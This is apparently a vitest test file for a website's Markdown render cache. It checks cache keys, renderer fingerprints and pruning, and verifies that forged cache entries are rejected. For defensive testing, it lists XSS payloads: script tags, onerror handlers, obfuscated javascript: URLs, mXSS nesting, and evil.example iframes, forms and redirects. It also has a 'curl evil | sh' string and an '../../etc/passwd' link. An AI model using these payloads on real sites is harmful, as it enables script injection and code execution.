/**
 * The render cache (src/site/render/): what a key depends on, that a cached render is the fresh
 * render byte for byte, and that a cache folder someone else wrote can cost hits but never put
 * unsanitised HTML on a page.
 */
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/site/catalog/markdown.ts';
import { entryFile, readEntry, writeEntry } from '../../src/site/render/cache.ts';
import { documentKey, type SkillDocument } from '../../src/site/render/document.ts';
import { computeFingerprint, rendererFingerprint } from '../../src/site/render/fingerprint.ts';
import { createRenderPool } from '../../src/site/render/pool.ts';
import { isRenderedHtml } from '../../src/site/render/verify.ts';

const repoRoot = path.resolve(import.meta.dirname, '../..');
let work: string;
beforeAll(() => {
  work = mkdtempSync(path.join(tmpdir(), 'skilldex-render-'));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

const files = '/skills/demo/0123456789abcdef/';
const base: SkillDocument = {
  markdown: '# Demo\n\nSee [the guide](references/guide.md) and [a script](scripts/run.sh).\n',
  options: { filesBase: files, demoteHeadings: 2, skillPages: { skillPath: '/skills/demo/', files: ['references/guide.md'] } },
};

/** Documents exercising every construct the renderer treats specially. */
function corpus(): SkillDocument[] {
  const texts = [
    base.markdown,
    '```js\nconst a = "<b>";\nfunction f() { return class A {}; }\n```\n\n```\nplain\n```\n',
    '| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\nA note.[^1]\n\n[^1]: The footnote, with a [link](https://example.org/).\n',
    '![remote](https://tracker.example/p.gif) ![local](assets/logo.png) ![](assets/blank.png) [up](../../etc/passwd) [anchor](#usage)\n',
    '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[x](javascript:alert(1))\n\n## 标题\n\n日本語のテキスト。\n',
    ...[...readdirSync(path.join(repoRoot, 'skills'), { recursive: true, withFileTypes: true })]
      .filter((e) => e.isFile() && e.name.endsWith('.md'))
      .map((e) => readFileSync(path.join(e.parentPath, e.name), 'utf8')),
    readFileSync(path.join(repoRoot, 'test/fixtures/site/skills/xss-probe/SKILL.md'), 'utf8'),
    readFileSync(path.join(repoRoot, 'test/fixtures/site/skills/xss-probe/references/notes.md'), 'utf8'),
  ];
  return texts.flatMap((markdown) => [
    { markdown, options: base.options },
    { markdown, options: { filesBase: `/repo${files}`, docDir: 'references', demoteHeadings: 1, skillPages: { skillPath: '/repo/skills/demo/', files: ['SKILL.md', 'references/guide.md'] } } },
  ]);
}

describe('documentKey', () => {
  const fingerprint = rendererFingerprint();
  const key = documentKey(fingerprint, base);
  const variants: [string, SkillDocument][] = [
    ['the Markdown', { ...base, markdown: base.markdown.replace('Demo', 'Demo 2') }],
    ['the files URL (base path, skill name, digest)', { ...base, options: { ...base.options, filesBase: `/repo${files}` } }],
    ['the folder of the document', { ...base, options: { ...base.options, docDir: 'references' } }],
    ['the heading levels', { ...base, options: { ...base.options, demoteHeadings: 1 } }],
    ['the skill page links go to', { ...base, options: { ...base.options, skillPages: { skillPath: '/repo/skills/demo/', files: ['references/guide.md'] } } }],
    ['the files that have pages', { ...base, options: { ...base.options, skillPages: { skillPath: '/skills/demo/', files: [] } } }],
  ];
  for (const [input, changed] of variants) {
    it(`changes with ${input}, and so does the HTML`, () => {
      expect(documentKey(fingerprint, changed)).not.toBe(key);
      expect(renderMarkdown(changed.markdown, changed.options)).not.toBe(renderMarkdown(base.markdown, base.options));
    });
  }

  it('changes with the renderer fingerprint, and not with the order options were written in', () => {
    expect(documentKey('another renderer', base)).not.toBe(key);
    const { filesBase, demoteHeadings, skillPages } = base.options;
    expect(documentKey(fingerprint, { markdown: base.markdown, options: { skillPages, demoteHeadings, filesBase } })).toBe(key);
  });
});

describe('rendererFingerprint', () => {
  // A stand-in renderer: an entry module, a module it imports, and a package with a dependency.
  function writeRenderer(dir: string, helper: string, versions: { dep: string; sub: string }) {
    mkdirSync(path.join(dir, 'node_modules/fake-dep'), { recursive: true });
    mkdirSync(path.join(dir, 'node_modules/fake-sub'), { recursive: true });
    writeFileSync(path.join(dir, 'entry.ts'), "import { helper } from './helper.ts';\nimport dep from 'fake-dep';\nexport const x = [helper, dep];\n");
    writeFileSync(path.join(dir, 'helper.ts'), helper);
    writeFileSync(path.join(dir, 'node_modules/fake-dep/package.json'), JSON.stringify({ name: 'fake-dep', version: versions.dep, main: 'index.js', dependencies: { 'fake-sub': '*' } }));
    writeFileSync(path.join(dir, 'node_modules/fake-dep/index.js'), 'module.exports = 1;\n');
    writeFileSync(path.join(dir, 'node_modules/fake-sub/package.json'), JSON.stringify({ name: 'fake-sub', version: versions.sub, main: 'index.js' }));
    writeFileSync(path.join(dir, 'node_modules/fake-sub/index.js'), 'module.exports = 2;\n');
    return pathToFileURL(path.join(dir, 'entry.ts'));
  }

  it('changes when the renderer, a module it imports, a package or a package of that package changes', () => {
    const dir = path.join(work, 'renderer');
    const original = computeFingerprint(writeRenderer(dir, 'export const helper = 1;\n', { dep: '1.0.0', sub: '1.0.0' }));
    expect(computeFingerprint(writeRenderer(dir, 'export const helper = 1;\n', { dep: '1.0.0', sub: '1.0.0' }))).toBe(original);
    expect(computeFingerprint(writeRenderer(dir, 'export const helper = 2;\n', { dep: '1.0.0', sub: '1.0.0' }))).not.toBe(original);
    expect(computeFingerprint(writeRenderer(dir, 'export const helper = 1;\n', { dep: '1.0.1', sub: '1.0.0' }))).not.toBe(original);
    expect(computeFingerprint(writeRenderer(dir, 'export const helper = 1;\n', { dep: '1.0.0', sub: '2.0.0' }))).not.toBe(original);
  });

  it("covers the real renderer's modules and the unified packages it uses", () => {
    const real = computeFingerprint(new URL('../../src/site/catalog/markdown.ts', import.meta.url));
    expect(real).toBe(rendererFingerprint());
    expect(real).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('the render pool and its cache', () => {
  it('serves, from the cache, exactly the HTML a fresh render gives', async () => {
    const cacheDir = path.join(work, 'identical');
    const documents = corpus();
    const fresh = documents.map((d) => renderMarkdown(d.markdown, d.options));
    const cold = createRenderPool({ cacheDir, size: 2 });
    expect(await Promise.all(documents.map((d) => cold.render(d)))).toEqual(fresh);
    const coldStats = await cold.close({ prune: true });
    expect(coldStats).toMatchObject({ documents: documents.length, hits: 0 });
    const warm = createRenderPool({ cacheDir, size: 2 });
    expect(await Promise.all(documents.map((d) => warm.render(d)))).toEqual(fresh);
    expect(await warm.close({ prune: true })).toMatchObject({ documents: documents.length, hits: documents.length, pruned: 0 });
  });

  it('drops entries the last build did not use, and only when asked to', async () => {
    const cacheDir = path.join(work, 'prune');
    const [a, b] = corpus();
    const first = createRenderPool({ cacheDir, size: 1 });
    await first.render(a!);
    await first.render(b!);
    await first.close({ prune: true });
    const unfinished = createRenderPool({ cacheDir, size: 1 });
    await unfinished.render(a!);
    expect((await unfinished.close()).pruned).toBe(0);
    const next = createRenderPool({ cacheDir, size: 1 });
    await next.render(a!);
    expect(await next.close({ prune: true })).toMatchObject({ hits: 1, pruned: 1 });
    const fingerprint = rendererFingerprint();
    expect(readEntry(cacheDir, documentKey(fingerprint, a!))).toBe(renderMarkdown(a!.markdown, a!.options));
    expect(readEntry(cacheDir, documentKey(fingerprint, b!))).toBeUndefined();
  });
});

describe("the project's own documents on the render pool", () => {
  it('render exactly as on the main thread, with heading ids, and are neither cached nor counted', async () => {
    const cacheDir = path.join(work, 'trusted');
    // What projectDocOptions gives a site at the root (it reads the site's config, which only a build has).
    const options = { filesBase: '/docs/', siteBase: '/', markdownPages: true, headingIds: true, projectLinks: { from: 'docs', published: { schemas: '/schemas/' } } };
    const docs = readdirSync(path.join(repoRoot, 'docs')).filter((name) => name.endsWith('.md'));
    const texts = docs.map((name) => readFileSync(path.join(repoRoot, 'docs', name), 'utf8'));
    const pool = createRenderPool({ cacheDir, size: 2 });
    const html = await Promise.all(texts.map((text) => pool.renderTrusted(text, options)));
    expect(html).toEqual(texts.map((text) => renderMarkdown(text, options)));
    expect(html.some((h) => /<h2 id="[^"]+"/.test(h))).toBe(true);
    expect(await pool.close({ prune: true })).toEqual({ documents: 0, hits: 0, pruned: 0 });
    expect(existsSync(cacheDir)).toBe(false); // nothing was written to the cache
  });
});

describe('a cache entry someone else wrote', () => {
  const fingerprint = rendererFingerprint();
  const key = documentKey(fingerprint, base);
  const fresh = renderMarkdown(base.markdown, base.options);

  /** Renders `base` through a pool over `cacheDir` after `tamper` wrote its entry. */
  async function renderAfter(name: string, tamper: (file: string) => void): Promise<{ html: string; hits: number; entry: string }> {
    const cacheDir = path.join(work, name);
    writeEntry(cacheDir, key, fresh);
    tamper(entryFile(cacheDir, key));
    const pool = createRenderPool({ cacheDir, size: 1 });
    const html = await pool.render(base);
    const { hits } = await pool.close();
    return { html, hits, entry: readFileSync(entryFile(cacheDir, key), 'utf8') };
  }
  const forge = (html: string) => (file: string) => {
    const entry = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
    writeFileSync(file, JSON.stringify({ ...entry, html, sha256: createHash('sha256').update(html).digest('hex') }));
  };

  it('is used when it is intact', async () => {
    expect(await renderAfter('intact', () => {})).toMatchObject({ html: fresh, hits: 1 });
  });

  it('is ignored and rewritten when it is torn, damaged or not JSON', async () => {
    const torn = await renderAfter('torn', (file) => writeFileSync(file, readFileSync(file, 'utf8').slice(0, 60)));
    expect(torn).toMatchObject({ html: fresh, hits: 0 });
    expect(JSON.parse(torn.entry).html).toBe(fresh);
    // One letter changed inside the HTML: still valid JSON and valid HTML, but not what was stored.
    const damaged = await renderAfter('damaged', (file) => writeFileSync(file, readFileSync(file, 'utf8').replace('Demo', 'Dumo')));
    expect(damaged).toMatchObject({ html: fresh, hits: 0 });
    expect(await renderAfter('binary', (file) => writeFileSync(file, Buffer.from([0xff, 0x00, 0x7b])))).toMatchObject({ html: fresh, hits: 0 });
  });

  it("is ignored when it is another document's entry", async () => {
    const other = documentKey(fingerprint, { ...base, markdown: 'other' });
    const foreign = await renderAfter('foreign', (file) => {
      const entry = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
      writeFileSync(file, JSON.stringify({ ...entry, key: other }));
    });
    expect(foreign).toMatchObject({ html: fresh, hits: 0 });
  });

  const attacks = [
    '<p>hi</p><script>alert(1)</script>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x73;cript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="q"></form>',
    '<style>body{display:none}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<p id="main">clobbers a page id</p>',
    '<a name="copy-block">clobber</a>',
    '<!-- a comment --><p>x</p>',
    '</div></section><script>alert(1)</script>',
    '<textarea><script>alert(1)</script></textarea>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<span class="hljs-keyword" style="position:fixed">x</span>',
    '<pre aria-label="Copy this: curl evil | sh" role="region">x</pre>',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
  ];

  it('never puts unsanitised HTML on a page, however consistent its key and digest', async () => {
    // One document per attack, each with a forged entry under its own key, through one pool.
    const cacheDir = path.join(work, 'attacks');
    const documents = attacks.map((attack, i) => ({ attack, document: { ...base, markdown: `${base.markdown}\nAttack ${i}.\n` } }));
    for (const { attack, document } of documents) {
      expect(isRenderedHtml(attack), attack).toBe(false);
      const key = documentKey(fingerprint, document);
      writeEntry(cacheDir, key, renderMarkdown(document.markdown, document.options));
      forge(attack)(entryFile(cacheDir, key));
    }
    const pool = createRenderPool({ cacheDir, size: 1 });
    for (const { attack, document } of documents) {
      const html = await pool.render(document);
      expect(html, attack).toBe(renderMarkdown(document.markdown, document.options));
      expect(readEntry(cacheDir, documentKey(fingerprint, document)), attack).toBe(html);
    }
    expect((await pool.close()).hits).toBe(0);
  });

  it("accepts everything the renderer itself writes", () => {
    for (const d of corpus()) {
      const html = renderMarkdown(d.markdown, d.options);
      expect(isRenderedHtml(html), html.slice(0, 200)).toBe(true);
    }
  });
});

describe('skill page links in rendered documents', () => {
  it('go to the pages of the listed files, and to the raw file otherwise', () => {
    const html = renderMarkdown('[guide](guide.md#top) [skill](../SKILL.md) [other](other.md)', {
      filesBase: files,
      docDir: 'references',
      skillPages: { skillPath: '/repo/skills/demo/', files: ['SKILL.md', 'references/guide.md'] },
    });
    expect(html).toContain('href="/repo/skills/demo/docs/references/guide/#top"');
    expect(html).toContain('href="/repo/skills/demo/"');
    expect(html).toContain(`href="${files}references/other.md"`);
  });
});
